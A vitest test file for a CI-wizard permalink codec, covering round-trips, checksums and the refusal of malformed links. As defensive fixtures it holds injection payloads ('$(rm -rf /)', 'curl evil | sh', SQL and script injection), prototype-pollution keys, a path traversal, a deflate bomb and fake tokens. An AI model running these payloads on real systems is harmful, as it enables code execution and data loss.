/**
 * Permalink codec: decode(encode(a)) gives back exactly the normalized answers (generated combinations and the
 * defaults), and every malformed or hostile input gives `ok: false` with a message, never an exception and never
 * answers: truncated, bit-flipped, wrong version, oversized (megabytes, and a deflate bomb), unknown keys,
 * `__proto__` / `constructor` keys, invalid values, invalid combinations, secrets, non-JSON. Script payloads in
 * free-text fields are valid strings: they must round-trip literally. Current links (version 2) carry a checksum:
 * every altered character is refused; legacy version-1 links still decode.
 */
import { deflateSync, strFromU8, strToU8, unzlibSync, zlibSync } from 'fflate';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { defaultAnswers, parseAnswers, type Answers } from './answers';
import { decodePermalink, encodeAnswers, PERMALINK_VERSION, permalinkFragment, permalinkUrl } from './permalink';
import { normalize, validateCombination } from './rules';
import { answersArb, oneLineText } from '../testing/arbitraries';

/** FC_RUNS raises the count for an exploratory run; the suite uses 1000. */
const RUNS = Number(process.env.FC_RUNS ?? 1000);

const b64url = (bytes: Uint8Array) => Buffer.from(bytes).toString('base64url');
/** A version-1 link holding `json` (already short keys), plain or deflated. */
/** A version-1 (legacy, no checksum) link holding `json` (short keys), plain or raw-deflated. */
const plain = (json: string) => `1.j${b64url(strToU8(json))}`;
const deflated = (json: string) => `1.z${b64url(deflateSync(strToU8(json), { level: 9 }))}`;
/** A current (version 2) link holding `json`: zlib, with its Adler-32 checksum. */
const zlib2 = (json: string) => `2.z${b64url(zlibSync(strToU8(json), { level: 9 }))}`;
/** The JSON inside a version-2 link. */
const jsonOf = (link: string) => strFromU8(unzlibSync(Buffer.from(link.replace(/^.*?2\.z/, ''), 'base64url')));

function expectBroken(input: string, pattern?: RegExp): void {
  let result: ReturnType<typeof decodePermalink> | undefined;
  expect(() => (result = decodePermalink(input))).not.toThrow();
  expect(result?.ok, `accepted: ${input.slice(0, 80)}`).toBe(false);
  if (result && !result.ok) {
    expect(result.error).toMatch(/^Broken permalink: .+/);
    if (pattern) expect(result.error).toMatch(pattern);
  }
  expect(result && 'answers' in result).toBe(false);
}

describe('permalink round trip', () => {
  it('the defaults encode to an empty configuration and decode back', () => {
    const a = defaultAnswers();
    const encoded = encodeAnswers(a);
    const r = decodePermalink(encoded);
    expect(r).toEqual({ ok: true, answers: a, version: PERMALINK_VERSION });
    for (const form of [
      permalinkFragment(a),
      `#${permalinkFragment(a)}`,
      permalinkUrl(a, 'https://wizard.example.com/app/'),
    ]) {
      expect(decodePermalink(form)).toEqual({ ok: true, answers: a, version: PERMALINK_VERSION });
    }
  });

  it(`decode(encode(a)) deep-equals a for ${RUNS} normalized generated answers, in every link form`, () => {
    let runs = 0;
    let longest = 0;
    fc.assert(
      fc.property(answersArb, fc.constantFrom('bare', 'fragment', 'url'), (input, form) => {
        runs++;
        const a = normalize(input);
        const encoded = encodeAnswers(a);
        longest = Math.max(longest, encoded.length);
        const link =
          form === 'bare'
            ? encoded
            : form === 'fragment'
              ? `#c=${encoded}`
              : permalinkUrl(a, 'https://wizard.example.com/?x=1#old');
        const r = decodePermalink(link);
        if (!r.ok) throw new Error(`${r.error} (link of ${encoded.length} characters)`);
        expect(r.answers).toEqual(a);
        expect(r.version).toBe(PERMALINK_VERSION);
        // Links made by version 1 (raw deflate or plain JSON, same keys) keep working.
        const json = jsonOf(encoded);
        for (const old of [plain(json), deflated(json)]) {
          const r1 = decodePermalink(old);
          if (!r1.ok) throw new Error(`version 1 link: ${r1.error}`);
          expect(r1.answers).toEqual(a);
          expect(r1.version).toBe(1);
        }
      }),
      { numRuns: RUNS },
    );
    console.log(`[permalink] round trip: ${runs} normalized answers; longest link ${longest} characters`);
    expect(runs).toBeGreaterThanOrEqual(RUNS);
  });

  it('the longest valid answers round-trip (every text field at its maximum length, incompressible)', () => {
    // A fixed pseudo-random sequence of BMP characters outside ASCII (3 bytes in UTF-8 each, so the JSON is as large
    // as the schema allows and deflate cannot shrink it much) where the syntax allows them, ASCII where it does not.
    let seed = 12345;
    const next = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31);
    const bmp = (n: number) =>
      Array.from({ length: n }, () => String.fromCharCode(0x4e00 + ((next() >>> 8) % 0x5000))).join('');
    const ascii = (n: number) =>
      Array.from({ length: n }, () => 'abcdefghijklmnopqrstuvwxyz0123456789'[(next() >>> 8) % 36]).join('');
    const a: Answers = {
      ...defaultAnswers(),
      gitlabUrl: `https://gitlab.example.com/${bmp(1000 - 27)}`,
      k8sNamespace: `a${ascii(62)}`,
      runnerDescription: bmp(1000),
      runnerTags: Array.from({ length: 20 }, () => bmp(254)),
      testCommand: bmp(1000),
      dockerfile: bmp(255),
      context: bmp(255),
      compose: true,
      composeFile: bmp(255),
      runTests: true,
      image: `$CI_REGISTRY_IMAGE/${ascii(1000 - 19)}`,
      cache: 'registry',
      cacheRef: `$CI_REGISTRY_IMAGE/${ascii(1000 - 19)}`,
      proxy: 'job',
      httpProxy: `http://proxy.example.com:3128/${bmp(1000 - 30)}`,
      httpsProxy: `http://proxy.example.com:3128/${bmp(1000 - 30)}`,
      noProxy: Array.from({ length: 90 }, () => `${ascii(9)}.x`)
        .join(',')
        .slice(0, 1000)
        .replace(/,[^,]*$/, ''),
      mirrorUrl: `https://mirror.example.com/${bmp(1000 - 27)}`,
      buildx: true,
      dockerHubUserVar: `A${ascii(254)}`,
      dockerHubPasswordVar: `B${ascii(254)}`,
      otherUserVar: `C${ascii(254)}`,
      otherPasswordVar: `D${ascii(254)}`,
      authConfigVar: `E${ascii(254)}`,
      customCaVar: `F${ascii(254)}`,
    };
    expect(parseAnswers(a)).toMatchObject({ ok: true });
    const n = normalize(a);
    expect(validateCombination(n)).toEqual([]);
    const encoded = encodeAnswers(n);
    const r = decodePermalink(encoded);
    if (!r.ok) throw new Error(`${r.error} (link of ${encoded.length} characters)`);
    expect(r.answers).toEqual(n);
    console.log(`[permalink] longest valid answers: a link of ${encoded.length} characters round-trips`);
  });

  it(`script payloads in free-text fields are valid strings and round-trip literally (${RUNS} cases)`, () => {
    let runs = 0;
    const payloads = fc.oneof(
      fc.constantFrom(
        '$(rm -rf /)',
        '`reboot`',
        '"; curl evil | sh; "',
        "'; DROP TABLE x; --",
        '${IFS}',
        '<script>alert(1)</script>',
        '{{7*7}}',
        '\u2019$(id)\u2019',
      ),
      oneLineText(10),
    );
    fc.assert(
      fc.property(payloads, payloads, (description, testCommand) => {
        const a = normalize({ ...defaultAnswers(), runnerDescription: description, runTests: true, testCommand });
        // Only strings the schema accepts (a secret-looking one would be refused, tested below).
        const r = decodePermalink(encodeAnswers(a));
        if (!r.ok) {
          expect(r.error).toMatch(/looks like a secret|line separator/);
          return;
        }
        runs++;
        expect(r.answers.runnerDescription).toBe(description);
        expect(r.answers.testCommand).toBe(testCommand);
      }),
      { numRuns: RUNS },
    );
    console.log(`[permalink] script payloads: ${runs} literal round trips`);
    expect(runs).toBeGreaterThan(RUNS / 2);
  });
});

describe('malformed permalinks give ok:false with a message', () => {
  const a = normalize({
    ...defaultAnswers(),
    executor: 'kubernetes',
    method: 'buildkit-rootless',
    runnerDescription: 'my runner',
    platforms: ['linux/amd64', 'linux/arm64'],
  });
  const good = encodeAnswers(a);

  it('truncated: every strict prefix of a link is refused', () => {
    expect(decodePermalink(good).ok).toBe(true);
    for (let n = 0; n < good.length; n++) expectBroken(good.slice(0, n));
    const j = plain(JSON.stringify({ de: 'my runner', x: 'kubernetes' }));
    for (let n = 0; n < j.length; n++) expectBroken(j.slice(0, n));
  });

  const flip = (link: string, pos: number, bit: number) => {
    const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
    const ch = link[pos] ?? 'A';
    const idx = alphabet.indexOf(ch);
    const flipped = idx === -1 ? String.fromCharCode(ch.charCodeAt(0) ^ (1 << bit)) : alphabet[idx ^ (1 << bit)];
    return link.slice(0, pos) + flipped + link.slice(pos + 1);
  };

  it(`bit-flipped: no one-bit change of a current link yields another configuration (${RUNS} flips, and every position)`, () => {
    let runs = 0;
    let refused = 0;
    let same = 0;
    // A flip is refused, except in the padding bits after the last deflate code, which carry no data: the link then
    // decodes to exactly the same configuration (the Adler-32 checksum covers the data, not the padding).
    const check = (pos: number, bit: number) => {
      const r = decodePermalink(flip(good, pos, bit));
      if (r.ok) {
        same++;
        expect(r.answers, `flip at ${pos} bit ${bit}`).toEqual(a);
      } else {
        refused++;
        expect(r.error).toMatch(/^Broken permalink: .+/);
      }
    };
    fc.assert(
      fc.property(fc.integer({ min: 0, max: good.length - 1 }), fc.integer({ min: 0, max: 5 }), (pos, bit) => {
        runs++;
        check(pos, bit);
      }),
      { numRuns: RUNS },
    );
    for (let pos = 0; pos < good.length; pos++) for (let bit = 0; bit < 6; bit++) check(pos, bit);
    console.log(
      `[permalink] bit flips of a version-2 link: ${runs} random and ${good.length * 6} exhaustive; ${refused} refused, ${same} in padding bits decoded to the same configuration, none to another`,
    );
    expect(same).toBeLessThan(refused / 20);
  });

  it(`bit-flipped legacy (version 1, no checksum) links: never throw; refused or a valid combination (${RUNS} flips)`, () => {
    let refused = 0;
    let accepted = 0;
    const legacy = deflated(jsonOf(good));
    const payloadStart = legacy.indexOf('.') + 2;
    fc.assert(
      fc.property(fc.integer({ min: 0, max: legacy.length - 1 }), fc.integer({ min: 0, max: 5 }), (pos, bit) => {
        const input = flip(legacy, pos, bit);
        let r: ReturnType<typeof decodePermalink> | undefined;
        expect(() => (r = decodePermalink(input))).not.toThrow();
        if (r?.ok) {
          accepted++;
          expect(pos).toBeGreaterThanOrEqual(payloadStart);
          expect(validateCombination(r.answers)).toEqual([]);
          expect(normalize(r.answers)).toEqual(r.answers);
        } else {
          refused++;
          expect(r?.error).toMatch(/^Broken permalink: .+/);
        }
      }),
      { numRuns: RUNS },
    );
    console.log(
      `[permalink] bit flips of a legacy version-1 link: ${refused} refused, ${accepted} decoded to another valid combination (version 1 has no checksum)`,
    );
  });

  it('wrong version', () => {
    expectBroken(good.replace(/^2\./, '3.'), /version 3 is not supported/);
    expectBroken(good.replace(/^2\./, '0.'), /version 0 is not supported/);
    expectBroken(good.replace(/^2\./, '99999.'), /unknown format/);
    expectBroken(good.replace(/^2\./, ''), /unknown format/);
    expectBroken(good.replace(/^2\.z/, '2.x'), /unknown format/);
    expectBroken(`2.j${b64url(strToU8(jsonOf(good)))}`, /unknown format for version 2/);
    expectBroken(good.replace(/^2\.z/, '1.z'));
  });

  it('oversized: megabytes of text, and a small deflate bomb', () => {
    expectBroken(`1.j${'A'.repeat(5 * 1024 * 1024)}`, /too long/);
    expectBroken(`https://x.example/#c=1.z${'A'.repeat(3 * 1024 * 1024)}`, /too long/);
    expectBroken(zlib2(JSON.stringify({ de: 'a'.repeat(2 * 1024 * 1024) })), /expands to more data/);
    const bomb = deflated(JSON.stringify({ de: 'a'.repeat(2 * 1024 * 1024) }));
    expect(bomb.length).toBeLessThan(8 * 1024);
    expectBroken(bomb, /expands to more data/);
    expectBroken(plain(JSON.stringify({ de: 'a'.repeat(40 * 1024) })));
  });

  it('unknown keys, __proto__ and constructor keys', () => {
    expectBroken(plain('{"zz":1}'), /unknown field "zz"/);
    expectBroken(plain('{"runnerDescription":"x"}'), /unknown field/);
    expectBroken(plain('{"__proto__":{"pv":false}}'), /unknown field "__proto__"/);
    expectBroken(deflated('{"__proto__":{"m":"dind"},"de":"x"}'), /unknown field "__proto__"/);
    expectBroken(zlib2('{"__proto__":{"m":"dind"},"de":"x"}'), /unknown field "__proto__"/);
    expectBroken(zlib2('{"constructor":{"prototype":{"polluted":true}}}'), /unknown field "constructor"/);
    expectBroken(zlib2('{"x":"nonsense"}'), /executor/);
    expectBroken(zlib2('{"o":"windows","m":"dind"}'), /invalid combination/);
    expectBroken(zlib2('not json'), /not JSON/);
    expectBroken(plain('{"constructor":{"prototype":{"polluted":true}}}'), /unknown field "constructor"/);
    expectBroken(plain('{"prototype":1}'), /unknown field/);
    expectBroken(plain('{"toString":"x"}'), /unknown field/);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.prototype).not.toHaveProperty('pv');
  });

  it('invalid values', () => {
    expectBroken(plain('{"x":"nonsense"}'), /executor/);
    expectBroken(plain('{"pv":"yes"}'), /allowPrivileged/);
    expectBroken(plain('{"mt":1}'), /mtu/);
    expectBroken(plain('{"mt":"1450"}'), /mtu/);
    expectBroken(plain('{"dv":"latest"}'), /dockerVersion/);
    expectBroken(plain('{"df":"../etc/passwd"}'), /dockerfile/);
    expectBroken(plain('{"df":"/abs"}'), /dockerfile/);
    expectBroken(plain('{"de":"two\\nlines"}'), /runnerDescription/);
    expectBroken(plain('{"de":"a\\u2028b"}'), /runnerDescription/);
    expectBroken(plain('{"de":"\\ud800"}'), /runnerDescription/);
    expectBroken(plain('{"tg":["a,b"]}'), /runnerTags/);
    expectBroken(plain('{"tg":["$X"]}'), /runnerTags/);
    expectBroken(plain('{"im":"--privileged x"}'), /image/);
    expectBroken(plain('{"mu":"https://mirror.example.com/?q=1"}'), /mirrorUrl/);
    expectBroken(plain('{"mu":"ftp://mirror.example.com"}'), /mirrorUrl/);
    for (const bad of [
      'not a url',
      'http://',
      'https://[::1',
      'https://a b',
      'https://user@mirror.example.com',
      'https://m.example.com/#x',
    ])
      expectBroken(plain(JSON.stringify({ mu: bad })), /mirrorUrl (must be|holds)/);
    expectBroken(plain('{"pl":["linux/mips"]}'), /platforms/);
    expectBroken(plain(JSON.stringify({ de: 'x'.repeat(1001) })), /longer than 1000/);
    expectBroken(plain('[]'), /configuration object/);
    expectBroken(plain('null'), /configuration object/);
    expectBroken(plain('"x"'), /configuration object/);
  });

  it('invalid combinations', () => {
    expectBroken(plain('{"o":"windows","m":"dind"}'), /invalid combination/);
    expectBroken(plain('{"pv":false}'), /invalid combination: method/);
    expectBroken(plain('{"x":"shell"}'), /invalid combination: method/);
    expectBroken(plain('{"rk":"gitlab-hosted","m":"socket"}'), /invalid combination/);
    expectBroken(plain('{"x":"kubernetes","mt":0}'), /invalid combination: mtu/);
    expectBroken(plain('{"rk":"gitlab-hosted","mt":1500}'), /invalid combination: mtu/);
  });

  it('secrets are refused in every string field', () => {
    expectBroken(plain('{"de":"glrt-abcdefghijklmnopqrstu"}'), /runnerDescription looks like a secret/);
    expectBroken(plain('{"tc":"echo glpat-abcdefghijklmnop"}'), /testCommand looks like a secret/);
    expectBroken(plain('{"tg":["GR1348941abcdefghijkl"]}'), /runnerTags/);
    expectBroken(plain('{"hp":"http://user:secret@proxy.example.com:3128"}'), /httpProxy holds credentials/);
    expectBroken(plain('{"de":"AKIAABCDEFGHIJKLMNOP"}'), /looks like a secret/);
    expectBroken(deflated(JSON.stringify({ de: 'glrt-abcdefghijklmnopqrstu' })), /looks like a secret/);
    expectBroken(zlib2(JSON.stringify({ de: 'glrt-abcdefghijklmnopqrstu' })), /looks like a secret/);
  });

  it('non-JSON, non-base64, not URL-encoded, no configuration', () => {
    expectBroken(plain('not json'), /not JSON/);
    expectBroken(plain('{"de":'), /not JSON/);
    expectBroken(`1.z${b64url(strToU8('not deflate data at all'))}`);
    expectBroken('1.j!!!!', /not base64url/);
    expectBroken('1.j%E0%A4%A', /URL-encoded/);
    expectBroken('https://x.example/#a=1&b=2', /no configuration/);
    expectBroken('', /no configuration/);
    expectBroken('   ', /no configuration/);
    expectBroken('c=', /no configuration/);
    expectBroken(`1.j${b64url(new Uint8Array([0xff, 0xfe, 0x7b, 0x7d]))}`);
  });

  it(`arbitrary input never throws and never yields an invalid combination (${RUNS} strings)`, () => {
    let runs = 0;
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ unit: 'binary', maxLength: 200 }),
          fc.string().map((s) => `1.j${s}`),
          fc.string().map((s) => `#c=1.z${s}`),
        ),
        (s) => {
          runs++;
          let r: ReturnType<typeof decodePermalink> | undefined;
          expect(() => (r = decodePermalink(s))).not.toThrow();
          if (r?.ok) expect(validateCombination(r.answers)).toEqual([]);
          else expect(r?.error).toMatch(/^Broken permalink: /);
        },
      ),
      { numRuns: RUNS },
    );
    console.log(`[permalink] arbitrary strings: ${runs}`);
    expect(runs).toBeGreaterThanOrEqual(RUNS);
  });
});
